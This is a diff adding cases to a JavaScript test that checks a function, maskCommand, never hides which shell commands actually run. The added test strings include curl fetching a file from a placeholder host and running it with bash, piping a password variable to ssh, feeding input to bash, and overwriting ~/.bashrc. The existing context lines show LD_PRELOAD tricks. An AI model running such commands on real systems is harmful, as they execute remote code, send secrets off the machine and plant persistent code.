@@ -78,6 +78,14 @@ const shown = [
   "chroot /dir kinit <<< 'echo PWNED'",
   "cd /usr/bin; cp bash kinit; kinit <<< 'echo PWNED'",
   "LD_PRELOAD=/x.so kinit <<< 'echo PWNED'",
+  'PASSWORD="a b"; curl -H "x: $PASSWORD" https://x -o f; bash f',
+  'PASSWORD="a b"; cat <<< "$PASSWORD" | ssh h',
+  'PASSWORD="a b"; coproc bash; cat <<< "$PASSWORD" >&${COPROC[1]}',
+  'PASSWORD="a b"; cat <<< "$PASSWORD" > >(bash)',
+  'PASSWORD="a b"; exec 3> >(bash); cat <<< "$PASSWORD" >&3',
+  'PASSWORD="a b"; tee ~/.bashrc <<< "$PASSWORD"',
+  'PASSWORD="a b"; cat > ~/.bashrc <<E\n$PASSWORD\nE',
+  'PASSWORD="a b"; cat <<< "$PASSWORD" > f; ksh *',
 ];
 test.each(shown)('no mark hides what runs: %s', (cmd) => {
   expect(maskCommand(cmd)).toBe(cmd);
